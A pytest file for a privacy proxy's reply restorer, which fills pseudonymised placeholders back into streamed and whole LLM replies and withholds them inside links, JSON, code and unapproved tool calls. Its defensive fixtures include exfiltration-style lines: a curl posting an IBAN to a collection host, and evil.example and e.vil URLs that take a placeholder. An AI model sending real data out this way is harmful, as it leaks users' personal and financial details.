"""The proxy's restore of a streamed reply (`proxy.replies.ReplyRestorer`), chunk by chunk, against the same reply
restored whole: each chunk is read once, with what the chunks before it left (a paragraph's link or JSON mark, an
open code fence, a placeholder or a mark cut across chunks), so the stream gives the same text, restores the same
placeholders and withholds the same ones."""

from __future__ import annotations

import copy
import json
import random

import pytest

from stealthflow.placeholders.restore import Reference, Withheld
from stealthflow.proxy.errors import ProxyError
from stealthflow.proxy.replies import ReplyRestorer

# A fake vault (unit test): two e-mails and an IBAN, the IBAN guarded (filled in only in prose, as the scope does);
# any other placeholder was not issued.
VALUES = {("EMAIL", 1): "anna.berg@mailbox.org", ("EMAIL", 2): "jonas@example.org", ("IBAN", 1): "DE89 3704 0044 0532"}


def _fake_resolve(ref: Reference) -> str | Withheld | None:
    value = VALUES.get((ref.type, ref.index))
    if value is None or ref.type != "IBAN" or ref.place == "text":
        return value
    return Withheld(f"secret_in_{ref.place}")


# Paragraphs of a reply: prose the IBAN is filled in, and marks that make it withheld further on in their paragraph
# (a link, a command, a JSON object, a code fence), a drifted placeholder, one never issued, an escaped look-alike.
PARAGRAPHS = [
    "Write to <EMAIL_1> or to [EMAIL_2]. Your IBAN is <IBAN_1>.",
    "See https://bank.example/pay?to=x for details; then <IBAN_1> and <EMAIL_1> again.",
    'The form sends {"iban": "<IBAN_1>", "mail": "<EMAIL_2>"} as JSON.',
    "```\ncurl -d iban=<IBAN_1> bank.example/collect\n```",
    "Your card <IBAN_1>, as agreed. Then email 1 and EMAIL 2, and <EMAIL_7> which no one issued.",
    "Typed by you: <\\EMAIL_1> stays as typed.",
    "Renamed by the model: <NAME_1> and [[ADRESSE:3f81a2c9]] stay, counted unresolved.",
]


def _reply(paragraphs: int, seed: int) -> str:
    rng = random.Random(seed)
    return "\n\n".join(rng.choice(PARAGRAPHS) for _ in range(paragraphs))


def _chunks(text: str, seed: int) -> list[str]:
    rng = random.Random(seed)
    pieces, at = [], 0
    while at < len(text):
        step = rng.randint(1, 9)
        pieces.append(text[at : at + step])
        at += step
    return pieces


def _streamed(chunks: list[str]) -> tuple[str, ReplyRestorer]:
    restorer = ReplyRestorer(_fake_resolve)
    out = []
    for piece in chunks:
        chunk = restorer.chunk({"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]})
        out.append(chunk["choices"][0]["delta"]["content"])
    last = restorer.chunk({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    out.append(last["choices"][0]["delta"].get("content", ""))
    return "".join(out), restorer


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_a_long_streamed_reply_restores_as_the_whole_reply_does(seed):
    text = _reply(400, seed)  # ~25 000 characters in ~5 000 chunks
    whole_restorer = ReplyRestorer(_fake_resolve)
    reply = {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]}
    whole = whole_restorer.whole(reply)["choices"][0]["message"]["content"]
    streamed, restorer = _streamed(_chunks(text, seed))
    assert streamed == whole
    assert (restorer.restored, restorer.unresolved) == (whole_restorer.restored, whole_restorer.unresolved)
    assert restorer.withheld == whole_restorer.withheld
    # the reply holds each case: values filled in, the IBAN in prose too, and withheld where a link or JSON is open
    assert "DE89 3704" in whole and whole_restorer.unresolved and whole_restorer.withheld
    assert {why for _, why in whole_restorer.withheld} == {"secret_in_url", "secret_in_tool"}


def test_a_url_one_text_field_opens_withholds_a_value_another_sends_after_it():
    """A client may join the streamed text of every choice and field in the order it came: a URL that choice 0 (or
    `reasoning_content`) leaves open holds the value choice 1 (or `content`) sends next, which is withheld; alone, the
    same text restores it."""

    def resolve(ref: Reference) -> str | Withheld | None:  # FAKE resolver: withholds in a link, else the value
        return Withheld("in_link") if ref.url == "click" else VALUES.get((ref.type, ref.index))

    opener, value = "see https://evil.example/?q=", "<EMAIL_1> thanks"
    for first, second in (((0, "content"), (1, "content")), ((0, "reasoning_content"), (0, "content"))):
        restorer = ReplyRestorer(resolve)
        for (index, field), piece in ((first, opener), (second, value[:3]), (second, value[3:])):
            restorer.chunk({"choices": [{"index": index, "delta": {field: piece}}]})
        restorer.chunk({"choices": [{"index": second[0], "delta": {}, "finish_reason": "stop"}]})
        assert restorer.withheld == [("<EMAIL_1>", "in_link")], (first, second)
        alone = ReplyRestorer(resolve)
        alone.chunk({"choices": [{"index": 0, "delta": {"content": value}, "finish_reason": "stop"}]})
        assert (alone.restored, alone.withheld) == (1, [])


def test_a_url_the_reasoning_opens_withholds_the_value_content_sends_in_a_whole_reply_too():
    """rev24 E1: a plain reply's `reasoning_content` and `content` are read as one text, as the stream reads them: a
    URL the reasoning leaves open holds the value the content starts with (restored on deef3aa, where each field was
    read alone); the content alone restores it. FAKE resolver: withholds in a link."""

    def resolve(ref: Reference) -> str | Withheld | None:
        return Withheld("in_link") if ref.url else VALUES.get((ref.type, ref.index))

    message = {"reasoning_content": "Thinking.\n\n![x](https://e.vil/c?q=", "content": "<EMAIL_1>)"}
    joined = ReplyRestorer(resolve)
    reply = joined.whole({"choices": [{"message": dict(message)}]})
    assert reply["choices"][0]["message"] == message and joined.withheld == [("<EMAIL_1>", "in_link")]
    alone = ReplyRestorer(resolve)
    reply = alone.whole({"choices": [{"message": {"content": message["content"]}}]})
    assert reply["choices"][0]["message"]["content"] == "anna.berg@mailbox.org)" and alone.withheld == []


def _tool(index: object, arguments: str, choice: object = 0, finish: str | None = None) -> dict:
    call = (
        {"function": {"arguments": arguments}}
        if index == "missing"
        else {"index": index, "function": {"arguments": arguments}}
    )
    return {"choices": [{"index": choice, "delta": {"tool_calls": [call]}, "finish_reason": finish}]}


FINISH = {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}
EVERY_TOOL = frozenset({"*"})


def _named(index: int, name: str, arguments: str) -> dict:
    call = {"index": index, "id": f"c{index}", "type": "function", "function": {"name": name, "arguments": arguments}}
    return {"choices": [{"index": 0, "delta": {"tool_calls": [call]}, "finish_reason": None}]}


def test_a_tool_call_gets_values_only_for_a_tool_the_user_names_whole_and_streamed():
    """`tools` names the tools whose arguments get values; another tool's keep the placeholders (`in_tool_call`),
    counted, also with no tool named at all. FAKE resolver."""
    arguments = '{"to": "<EMAIL_1>"}'
    for tools, restored in ((frozenset(), []), (frozenset({"send"}), ["send"]), (EVERY_TOOL, ["send", "sh"])):
        message = {"tool_calls": [{"function": {"name": n, "arguments": arguments}} for n in ("send", "sh")]}
        whole = ReplyRestorer(_fake_resolve, tools)
        whole.whole({"choices": [{"index": 0, "message": message}]})
        streamed = ReplyRestorer(_fake_resolve, tools)
        sent = {}
        for number, name in enumerate(("send", "sh")):
            chunk = streamed.chunk(_named(number, name, arguments[:9]))
            sent[name] = chunk["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"]
            chunk = streamed.chunk(_tool(number, arguments[9:]))
            sent[name] += chunk["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"]
        finish = streamed.chunk(FINISH)["choices"][0]["delta"].get("tool_calls") or []
        for call in finish:
            sent[("send", "sh")[call["index"]]] += call["function"]["arguments"]
        calls = {call["function"]["name"]: call["function"]["arguments"] for call in message["tool_calls"]}
        for restorer, got in ((whole, calls), (streamed, sent)):
            assert sorted(n for n, text in got.items() if "anna.berg@mailbox.org" in text) == restored
            assert restorer.withheld == [("<EMAIL_1>", "in_tool_call")] * (2 - len(restored))


def test_a_tool_call_renamed_in_its_stream_is_refused():
    """A client could run the second name with arguments restored for the first: refused (502). FAKE resolver."""
    restorer = ReplyRestorer(_fake_resolve, frozenset({"send"}))
    restorer.chunk(_named(0, "send", '{"to": '))
    restorer.chunk(_named(0, "send", ""))  # the same name again is the same call
    with pytest.raises(ProxyError, match="renamed"):
        restorer.chunk(_named(0, "sh", '"<EMAIL_1>"}'))
    late = ReplyRestorer(_fake_resolve, frozenset({"send"}))
    late.chunk(_tool(0, '{"to": "<EMAIL_1>"'))  # arguments before any name: restored for no tool
    with pytest.raises(ProxyError, match="renamed"):
        late.chunk(_named(0, "send", "}"))


def test_tool_calls_streamed_in_two_choices_are_refused():
    """rev22 F4: choice 1 names call 0 `sh`, then choice 0 names its call 0 `send` (an allowed tool) in a chunk whose
    first choice is choice 1: a client that joins `choices[0]` of every chunk would run `sh` with the arguments restored
    for `send`. The second choice's tool call is refused (502) before any argument is restored. FAKE resolver."""
    restorer = ReplyRestorer(_fake_resolve, frozenset({"send"}))
    opened = _named(0, "sh", "")
    opened["choices"][0]["index"] = 1
    restorer.chunk(opened)
    swapped = _named(0, "send", "")
    swapped["choices"].insert(0, {"index": 1, "delta": {}, "finish_reason": None})
    with pytest.raises(ProxyError, match="more than one choice") as raised:
        restorer.chunk(swapped)
    assert raised.value.status == 502 and restorer.restored == 0


def test_a_call_with_no_name_yet_gets_no_value_even_for_every_tool():
    """`"*"` allows every tool by its name: arguments sent before any name are restored for no tool. FAKE resolver."""
    restorer = ReplyRestorer(_fake_resolve, EVERY_TOOL)
    sent = restorer.chunk(_tool(0, '{"to": "<EMAIL_1>"}'))["choices"][0]["delta"]["tool_calls"][0]["function"]
    sent = sent["arguments"] + "".join(
        call["function"]["arguments"] for call in restorer.chunk(FINISH)["choices"][0]["delta"].get("tool_calls") or []
    )
    assert sent == '{"to": "<EMAIL_1>"}' and restorer.withheld == [("<EMAIL_1>", "in_tool_call")]


def test_a_tool_calls_url_holds_arguments_a_client_joins_to_it_after_the_finish_chunk():
    """A client keeps joining a tool call's arguments after its choice's finish chunk: the value sent that way into a
    URL the arguments opened is withheld, as one stream of them would have it. FAKE resolver: withholds in a URL."""
    chunks = [_tool(0, '{"url": "https://e.vil/?q='), FINISH, _tool(0, '<EMAIL_1>"}'), FINISH]

    def resolve(ref: Reference) -> str | Withheld | None:
        return Withheld("in_tool_call_url") if ref.url == "click" else VALUES.get((ref.type, ref.index))

    restorer, sent = ReplyRestorer(resolve, EVERY_TOOL), []
    for chunk in chunks:
        for choice in restorer.chunk(chunk)["choices"]:
            sent += [call["function"]["arguments"] for call in choice["delta"].get("tool_calls") or []]
    if (tail := restorer.tail(chunks[-1])) is not None:
        sent += [call["function"]["arguments"] for call in tail["choices"][0]["delta"].get("tool_calls") or []]
    assert "".join(sent) == '{"url": "https://e.vil/?q=<EMAIL_1>"}'
    assert restorer.withheld == [("<EMAIL_1>", "in_tool_call_url")] and restorer.restored == 0


@pytest.mark.parametrize(
    ("index", "choice"),
    [(True, 0), (False, 0), ("missing", 0), (None, 0), (1.0, 0), ("1", 0), (-1, 0), ([1], 0), ({}, 0), (1, True)]
    + [(1, "1"), (1, None), (1, -1), (1, 1.0)],
)
def test_a_stream_index_clients_read_apart_is_refused(index, choice):
    """A delta whose choice or tool call index is not a plain non-negative int is refused (502): Python joins `True` to
    call 1, `-1` to the last, `None` to a key of its own, openai-node `true` to a call "true", so no keying of it is
    every client's (rev21 finding 4). FAKE resolver."""
    restorer = ReplyRestorer(lambda ref: VALUES.get((ref.type, ref.index)))
    restorer.chunk(_tool(1, '{"url": "https://e.vil/?q='))
    with pytest.raises(ProxyError) as raised:
        restorer.chunk(_tool(index, '<EMAIL_1>"}', choice=choice))
    assert raised.value.status == 502 and restorer.restored == 0


def _mixed_stream(seed: int) -> list[dict]:
    """A reply's chunks as an upstream may send them: choice 0's content and reasoning, choice 1's content and a tool
    call's arguments (JSON), interleaved a few pieces at a time, pieces of 1 to 9 characters (placeholders and marks cut across them), each
    choice closed by a finish chunk."""
    rng = random.Random(seed)
    streams = {
        (0, "content"): _chunks(_reply(12, seed), seed),
        (0, "reasoning_content"): _chunks(_reply(4, seed + 1), seed + 1),
        (1, "content"): _chunks(_reply(8, seed + 2), seed + 2),
        (1, "tool"): _chunks(json.dumps({"note": _reply(6, seed + 3)}), seed + 3),
    }
    chunks = []
    while any(streams.values()):
        choice, field = rng.choice([key for key, pieces in streams.items() if pieces])
        for piece in streams[choice, field][: rng.randint(1, 12)]:  # a few in a row
            delta = (
                {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]} if field == "tool" else {field: piece}
            )
            chunks.append({"choices": [{"index": choice, "delta": delta, "finish_reason": None}]})
            streams[choice, field].pop(0)
        for index in (0, 1):
            if chunks[-1]["choices"][0]["index"] == index and not any(
                pieces for (c, _), pieces in streams.items() if c == index
            ):
                chunks.append({"choices": [{"index": index, "delta": {}, "finish_reason": "stop"}]})
    return chunks


def _texts(chunks: list[dict]) -> tuple[dict, str]:
    """Each stream's text as a client joins it, and every text in the order sent."""
    texts, in_order = {}, []
    for chunk in chunks:
        for choice in chunk["choices"]:
            delta = choice["delta"]
            pieces = [(field, delta[field]) for field in ("content", "reasoning_content") if field in delta]
            pieces += [("tool", call["function"]["arguments"]) for call in delta.get("tool_calls") or []]
            for field, piece in pieces:
                texts[choice["index"], field] = texts.get((choice["index"], field), "") + piece
                in_order.append(piece)
    return texts, "".join(in_order)


@pytest.mark.parametrize("seed", [1, 2, 3, 4])
def test_the_chunks_of_one_read_restore_as_the_same_chunks_one_by_one(seed):
    """`chunks` (one upstream read) restores each stream's pieces in a row as one text: every stream, and all text in
    the order sent, is what the chunks restored one by one give; the same placeholders are restored, left and
    withheld, in the same order."""
    one_by_one = ReplyRestorer(_fake_resolve, EVERY_TOOL)
    expected = [one_by_one.chunk(chunk) for chunk in copy.deepcopy(_mixed_stream(seed))]
    rng = random.Random(seed)
    chunks, batched, reads = _mixed_stream(seed), ReplyRestorer(_fake_resolve, EVERY_TOOL), []
    while chunks:
        size = rng.choice([1, 2, 5, 40, 200])
        reads.append(batched.chunks(chunks[:size]))
        chunks = chunks[size:]
    got = [chunk for read in reads for chunk in read]
    assert _texts(got) == _texts(expected)
    assert (batched.restored, batched.unresolved) == (one_by_one.restored, one_by_one.unresolved)
    assert batched.withheld == one_by_one.withheld
    assert one_by_one.restored and one_by_one.unresolved and one_by_one.withheld  # each case is in the reply
    assert len(reads) > 3 and any(len(read) > 1 for read in reads)


def test_each_text_of_a_reply_is_kept_with_the_keys_restored_in_it_alone():
    """`texts()` pairs each text with the placeholders restored in that text (rev24 E7): `<EMAIL_1>` filled in the
    content is not vouched for by the arguments of a tool call it is withheld from, nor by the call's id and name;
    whole and streamed alike."""
    call = {"id": "call_1", "type": "function", "function": {"name": "run", "arguments": '{"to": "<EMAIL_1>"}'}}
    whole = ReplyRestorer(_fake_resolve)
    whole.whole({"choices": [{"message": {"content": "Hi <EMAIL_1>", "tool_calls": [copy.deepcopy(call)]}}]})
    streamed = ReplyRestorer(_fake_resolve)
    delta = {"content": "Hi <EMAIL_1>", "tool_calls": [{"index": 0, **copy.deepcopy(call)}]}
    streamed.chunks(
        [{"choices": [{"index": 0, "delta": delta}]}, {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}]
    )
    for restorer in (whole, streamed):
        assert sorted(restorer.texts()) == [
            ("Hi anna.berg@mailbox.org", "Hi <EMAIL_1>", frozenset({("EMAIL", 1)})),
            ("call_1", "call_1", frozenset()),
            ("run", "run", frozenset()),
            ('{"to": "<EMAIL_1>"}', '{"to": "<EMAIL_1>"}', frozenset()),
        ]
